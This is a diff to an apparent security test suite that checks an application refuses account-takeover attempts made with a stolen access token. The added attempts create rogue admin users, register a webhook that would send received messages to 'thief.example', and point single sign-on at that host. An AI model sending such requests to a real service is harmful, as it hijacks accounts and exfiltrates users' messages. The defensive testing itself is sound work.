@@ -2,7 +2,7 @@ import { Caller, tally, times } from './caller.ts';
 import { type Attack, hire, newAddress, signUp } from './scene.ts';
 
 const takenToken: Attack = {
-  what: 'making the account one’s own with a taken access token: phone, e-mail, password, key, a colleague’s phone',
+  what: 'making the account one’s own, or access that lasts, with a taken access token: phone, e-mail, password, key, passkey, webhook, users, rights, single sign-on',
   run: async ({ url, victim }) => {
     const { id: colleague } = await hire(victim, 'Passed');
     const thief = new Caller(url, newAddress());
@@ -18,12 +18,25 @@ const takenToken: Attack = {
       ['POST', '/security/recovery-codes', {}],
       ['POST', `/security/team/${colleague}/reset`, {}],
       ['POST', '/passkeys/options', {}],
+      ['POST', '/users', { name: 'Thief', email: 'thief@attack.example', password: 'Stolen-Harbour-1' }],
+      ['POST', '/users', { name: 'Thief', email: 'thief@attack.example', profile: 'admin' }],
+      ['POST', `/users/${colleague}/invitation`, {}],
+      ['PUT', `/users/${colleague}`, { profile: 'admin' }],
+      ['PUT', `/users/${colleague}`, { allowConnections: 'enabled' }],
+      ['POST', '/webhook-endpoints', { name: 'Thief', url: 'https://thief.example', events: ['message.received'] }],
+      ['POST', '/webhook-endpoints/1/secret', {}],
+      ['PUT', '/singleSignOn', { isEnabled: true, issuer: 'https://thief.example' }],
+      ['POST', '/security/proof', { currentPassword: 'Wrong-Guess-1' }],
     ];
     const statuses: number[] = [];
     for (const [method, path, body] of ways) statuses.push((await thief.api(method, path, { body })).status);
     const { wpp } = await victim.admin.must<{ wpp: string }>('GET', `/users/${victim.adminId}`);
-    const isSame = wpp !== '5511955554444';
-    return { held: isSame && statuses.every((status) => status === 400), figure: tally(statuses) };
+    const { users } = await victim.admin.must<{ users: { email: string; profile: string }[] }>('GET', '/users');
+    const isSame =
+      wpp !== '5511955554444' &&
+      users.every(({ email }) => !email.startsWith('thief@')) &&
+      users.filter(({ profile }) => profile === 'admin').length === 1;
+    return { held: isSame && statuses.every((status) => status === 400 || status === 403), figure: tally(statuses) };
   },
 };
 
